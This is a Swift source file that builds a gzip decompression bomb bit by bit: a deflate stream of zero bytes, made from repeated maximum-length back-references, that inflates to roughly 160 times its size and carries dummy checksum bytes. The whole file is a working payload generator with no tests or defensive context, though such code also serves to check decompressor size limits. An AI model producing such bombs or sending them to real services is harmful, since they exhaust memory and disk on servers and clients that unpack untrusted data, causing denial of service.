import Foundation

/// A gzip stream of zeros, 160 times as large unpacked, written bit by bit so that no packer is needed.
enum GzipBomb {
    /// - Parameter unpacked: bytes, roughly.
    static func zeros(unpacked: Int) -> [UInt8] {
        var bytes: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255]
        bytes.reserveCapacity(unpacked / 158 + 64)
        var accumulator: UInt64 = 0
        var filled = 0
        func put(_ bits: [UInt64]) {
            for bit in bits {
                accumulator |= bit << UInt64(filled)
                filled += 1
                if filled == 8 {
                    bytes.append(UInt8(accumulator))
                    accumulator = 0
                    filled = 0
                }
            }
        }
        put([1, 1, 0])  // last block, fixed codes
        put([0, 0, 1, 1, 0, 0, 0, 0])  // the literal 0
        let match: [UInt64] = [1, 1, 0, 0, 0, 1, 0, 1] + [0, 0, 0, 0, 0]  // 258 bytes from 1 byte back
        // Eight of them are thirteen whole bytes, from the second time on the same ones.
        let eight = Array(repeating: match, count: 8).flatMap(\.self)
        put(eight)
        put(eight)
        let repeated = bytes.suffix(13)
        for _ in 0..<max(0, unpacked / 258 / 8 - 2) { bytes += repeated }
        put([0, 0, 0, 0, 0, 0, 0, 0])  // end of block; the checksum is never reached
        return bytes + [UInt8](repeating: 0, count: 8)
    }
}
